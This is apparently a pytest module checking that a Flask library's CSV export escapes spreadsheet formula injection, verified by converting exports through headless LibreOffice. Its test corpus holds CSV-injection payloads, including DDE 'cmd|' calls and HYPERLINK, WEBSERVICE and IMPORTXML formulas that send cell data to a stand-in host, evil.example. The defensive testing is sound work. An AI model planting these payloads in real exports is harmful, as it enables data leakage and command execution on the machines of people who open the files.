"""csv_export read by a real spreadsheet: LibreOffice Calc (headless ``soffice``)
opens exports of hostile cells with ``,``, ``;`` and TAB as separator and finds
no formula in them; the same cells written with ``escape_formulas=False`` show
that this reader does run formulas from them.

Each separator is one ``soffice`` run converting every file to flat ODF
(``.fods``), read back with ElementTree. Without ``soffice`` the tests skip;
with ``RESPKIT_REQUIRE_SOFFICE=1`` (CI) they fail instead.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import typing as t
import unicodedata
import xml.etree.ElementTree as ET
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask

from flask_respkit import csv_export

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
#: The separators a reader may split on: comma, semicolon (Excel in German,
#: French and many other locales), TAB.
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}

# -- The corpora -------------------------------------------------------------------

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\x00"]
INNER = [",", ";", "\t", '"', "\n", "\r", "\r\n"]
#: What may come between a cell start and the trigger.
BLANKS = [
    "",
    " ",
    "   ",
    "\x00",
    " \x00 ",
    "\xa0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\x0b",
]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B1;"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=WEBSERVICE("http://evil.example/?"&B1)',
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=";B1);"//a")',
]
#: Characters that look like a trigger, and must not act as one either.
LOOKALIKES = [
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\ufe66",
    "\u207c",
    "\u208c",
    "\u2212",
]


def _blank_class() -> list[str]:
    """Every control, format, space and line-separator character of the BMP."""
    return [
        c
        for c in map(chr, range(0x10000))
        if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp")
    ]


def hostile_cells() -> list[str]:
    cells = list(PAYLOADS)
    for trigger in TRIGGERS:
        body = "1+1" if trigger in "=+-@" else "=1+1"
        for blank in BLANKS:
            cells.append(f"{blank}{trigger}{body}")
            for sep in INNER:
                cells.append(f"Mallory{sep}{blank}{trigger}{body}")
    for sep in INNER:
        for payload in PAYLOADS:
            cells.append(f"Mallory{sep}{payload}")
            cells.append(f"Mallory{sep}  {payload}")
    cells += [f"{c}=1+1" for c in _blank_class()]
    cells += [f"{c}{c}=1+1" for c in _blank_class()]
    cells += [f"x,{c}=1+1" for c in _blank_class()]
    cells += [f"{look}1+1" for look in LOOKALIKES]
    cells += [f"Mallory;{look}1+1" for look in LOOKALIKES]
    cells += ['"=1+1', '""=1+1', '"=1+1"', "'=1+1", "Eve\t=1+1", "  =1+1"]
    cells += ["-1+1", "+1+1", "-1,=1+1", "-42\n=1+1", "1,-2;=1+1"]
    return cells


#: Whole rows: a number where a line starts (or a cell inside a string
#: starts, after ";", TAB or a line break) that a reader splitting on ";" or
#: TAB sees run on, through the next fields, into a DDE call or a function
#: (``-1,5+cmd|...`` is one cell for it, and ``-1,5`` a number in Germany).
RUN_ON_ROWS: list[tuple[t.Any, ...]] = [
    (-1, "5+cmd|' /C calc'!A0"),
    ("-1", "5+cmd|' /C calc'!A0"),
    (-1.5, "2+cmd|' /C calc'!A0"),
    (Decimal("-1"), "5+cmd|' /C calc'!A0"),
    ("+1", "1+cmd|' /C calc'!A0"),
    (" -1", "5+cmd|' /C calc'!A0"),
    (-1, "5+SUM(1;2)"),
    (-1, '5+HYPERLINK("http://evil.example/?leak="&B1;"Click")'),
    (-1, 2, "3+cmd|' /C calc'!A0"),
    ("x;-1", "5+cmd|' /C calc'!A0"),
    ("x\t-1", "5+cmd|' /C calc'!A0"),
    ("Totals:\n-1", "5+cmd|' /C calc'!A0"),
    ("a;", -1, "5+cmd|' /C calc'!A0"),  # TAB-delimited: ";" then "\t-1\t5+..."
    (None, -1, "5+cmd|' /C calc'!A0"),
]


def hostile_rows() -> list[tuple[t.Any, ...]]:
    return [(f"r{i}", cell) for i, cell in enumerate(hostile_cells())] + RUN_ON_ROWS


#: Cells that must come out of the export exactly as they went in.
BENIGN = [
    "-42",
    "+42",
    "-1.5",
    "+1.5e3",
    "-2.5E-10",
    " -7 ",
    "-1,234.50",
    "-12%",
    "1,-2",
    "Totals:\n-42\n+17",
    "alice@example.com",
    "mailto: bob@example.com",
    "2024-01-02",
    "2024-02-29 13:05:01",
    "O'Brien",
    'ACME "Rockets", Ltd',
    "Zoë Ångström 大阪",
    "note; call back",
    "3 - 1 = 2",
    "e-mail",
    "#hashtag",
    "100%",
    "http://example.com/?a=1&b=-2",
    "line one\nline two",
    "a\n\nb",
    "leave at the door,\nring twice",
    "Street 1;\r\nCity",
    "tab\t\tseparated",
]
#: Phone numbers are not number literals: they keep their ``'``.
PHONES = ["+1 555 0100", "+44 20 7946 0958", "+49-30-1234567"]


# -- Running soffice ---------------------------------------------------------------


def soffice_or_skip() -> str:
    """The ``soffice`` executable, or skip; with ``RESPKIT_REQUIRE_SOFFICE=1``
    (CI) a missing LibreOffice fails instead."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        problem = "LibreOffice (soffice) is not installed"
        if os.environ.get("RESPKIT_REQUIRE_SOFFICE") == "1":
            pytest.fail(f"RESPKIT_REQUIRE_SOFFICE=1 but {problem}")
        pytest.skip(problem)
    return found


Cell = tuple[t.Optional[str], str, str]  # (formula, value type, text)


def text_of(element: ET.Element) -> str:
    """The text of an ODF paragraph, with its TABs, runs of spaces and line
    breaks (elements of their own)."""
    parts = [element.text or ""]
    for child in element:
        name = child.tag.rpartition("}")[2]
        if name == "tab":
            parts.append("\t")
        elif name == "s":
            parts.append(" " * int(child.get(TEXT + "c", "1")))
        elif name == "line-break":
            parts.append("\n")
        else:
            parts.append(text_of(child))
        parts.append(child.tail or "")
    return "".join(parts)


def read_fods(path: Path) -> list[list[Cell]]:
    """The first sheet of a flat ODF spreadsheet as rows of cells."""
    root = ET.parse(path).getroot()
    table = next(root.iter(TABLE + "table"))
    rows = []
    for row in table.iter(TABLE + "table-row"):
        cells: list[Cell] = []
        for cell in row:
            if cell.tag not in (TABLE + "table-cell", TABLE + "covered-table-cell"):
                continue
            paragraphs = [text_of(p) for p in cell]
            value = (
                cell.get(TABLE + "formula"),
                cell.get(OFFICE + "value-type", ""),
                cell.get(OFFICE + "value") or "\n".join(paragraphs),
            )
            repeat = int(cell.get(TABLE + "number-columns-repeated", "1"))
            cells.extend([value] * min(repeat, 4))
        while cells and cells[-1] == (None, "", ""):
            cells.pop()
        rows.append(cells)
    while rows and not rows[-1]:
        rows.pop()
    return rows


def convert(soffice: str, files: list[Path], separator: int, out: Path) -> None:
    """One soffice run: import ``files`` as CSV split on ``separator``, with
    ``"`` as text delimiter, UTF-8, trimming spaces and evaluating formulas
    (filter tokens 11 and 13), and save them as ``.fods`` into ``out``."""
    options = f"{separator},34,76,1,,,false,false,false,false,true,false,true"
    profile = out / "profile"
    command = [
        soffice,
        "--headless",
        "--norestore",
        "--nolockcheck",
        f"-env:UserInstallation={profile.as_uri()}",
        f"--infilter=CSV:{options}",
        "--convert-to",
        "fods",
        "--outdir",
        str(out),
        *map(str, files),
    ]
    try:
        done = subprocess.run(command, capture_output=True, timeout=180, check=False)
    except subprocess.TimeoutExpired as e:
        pytest.fail(f"soffice did not finish in {e.timeout} s: {e.output!r}")
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    missing = [
        f.name for f in files if not (out / f.with_suffix(".fods").name).exists()
    ]
    if done.returncode or missing:
        output = (done.stdout + done.stderr).decode(errors="replace")
        pytest.fail(f"soffice did not convert {missing}: {done.returncode}\n{output}")


# -- The exports -------------------------------------------------------------------


class Semicolons(csv.excel):
    delimiter = ";"


EXPORTS: dict[str, dict[str, t.Any]] = {
    "escaped": {},
    "escaped-tab": {"dialect": "excel-tab"},
    "escaped-semicolon": {"dialect": Semicolons},
    "raw": {"escape_formulas": False},
}


def export(name: str, rows: list[tuple[t.Any, ...]]) -> bytes:
    app = Flask(__name__)

    @app.get("/x")
    @csv_export(["id", "cell"], **EXPORTS[name])
    def view() -> t.Iterator[tuple[t.Any, ...]]:
        return iter(rows)

    response = app.test_client().get("/x")
    assert response.status_code == 200
    return response.data


@pytest.fixture(scope="module")
def spreadsheet(tmp_path_factory: pytest.TempPathFactory) -> dict[str, t.Any]:
    """Every export, as written and as LibreOffice read it with each separator:
    ``{"csv": {file: bytes}, "read": {separator: {file: rows}}}``."""
    soffice = soffice_or_skip()
    base = tmp_path_factory.mktemp("libreoffice")
    bodies = {name: export(name, hostile_rows()) for name in EXPORTS}
    benign = BENIGN + PHONES
    bodies["benign"] = export("escaped", [(f"r{i}", c) for i, c in enumerate(benign)])
    files = []
    for name, body in bodies.items():
        path = base / f"{name}.csv"
        path.write_bytes(body)
        files.append(path)
    read: dict[str, dict[str, list[list[Cell]]]] = {}
    for label, separator in SEPARATORS.items():
        out = base / label
        out.mkdir()
        convert(soffice, files, separator, out)
        read[label] = {f.stem: read_fods(out / f"{f.stem}.fods") for f in files}
    return {"csv": bodies, "read": read}


def formulas(rows: list[list[Cell]]) -> list[str]:
    return [cell[0] for row in rows for cell in row if cell[0] is not None]


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("name", ["escaped", "escaped-tab", "escaped-semicolon"])
def test_libreoffice_finds_no_formula_in_an_escaped_export(
    spreadsheet: dict[str, t.Any], separator: str, name: str
) -> None:
    rows = spreadsheet["read"][separator][name]
    assert len(rows) > len(hostile_rows())  # the whole file was read
    assert formulas(rows) == []


@pytest.mark.parametrize(
    ("name", "separator"),
    [  # each export read on the separators it was not written with
        ("escaped", "semicolon"),
        ("escaped", "tab"),
        ("escaped-tab", "comma"),
        ("escaped-tab", "semicolon"),
        ("escaped-semicolon", "comma"),
        ("escaped-semicolon", "tab"),
    ],
)
def test_no_cell_libreoffice_reads_starts_with_a_number_running_into_a_call(
    spreadsheet: dict[str, t.Any], name: str, separator: str
) -> None:
    # LibreOffice evaluates only cells starting with "=" (Excel also "-" and
    # "+"), so it shows the run-on rows as text either way; what it reads
    # shows the "'" in front of each.
    calls = ("cmd|", "SUM(", "HYPERLINK(")
    texts = [c[2] for row in spreadsheet["read"][separator][name] for c in row]
    running = [
        text
        for text in texts
        if text.lstrip(" ")[:1] in ("-", "+") and any(call in text for call in calls)
    ]
    assert running == []
    assert any(text.startswith("'-1") and "cmd|" in text for text in texts)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_libreoffice_runs_formulas_from_the_same_cells_unescaped(
    spreadsheet: dict[str, t.Any], separator: str
) -> None:
    found = formulas(spreadsheet["read"][separator]["raw"])
    # The reader and its options do run formulas: the corpus is live.
    assert len(found) >= 20, found
    assert any("HYPERLINK" in f for f in found), found
    assert any("cmd|" in f.lower() for f in found), found


def test_benign_cells_survive_byte_for_byte(spreadsheet: dict[str, t.Any]) -> None:
    body = spreadsheet["csv"]["benign"]
    cells = [row[1] for row in csv.reader(io.StringIO(body.decode(), newline=""))]
    assert cells[1:] == BENIGN + ["'" + phone for phone in PHONES]
    rows = spreadsheet["read"]["comma"]["benign"]
    assert formulas(rows) == []
    # LibreOffice reads numbers written as text as numbers, the rest as text.
    read = {row[0][2]: row[1][1:] for row in rows[1:]}
    for i, text in enumerate(BENIGN):
        kind, value = read[f"r{i}"]
        if kind == "float":
            assert float(value) == float(text.replace(",", "")), text
        elif kind == "date":
            assert value == text, text
        else:
            assert (kind, value) == ("string", text.replace("\r\n", "\n")), text
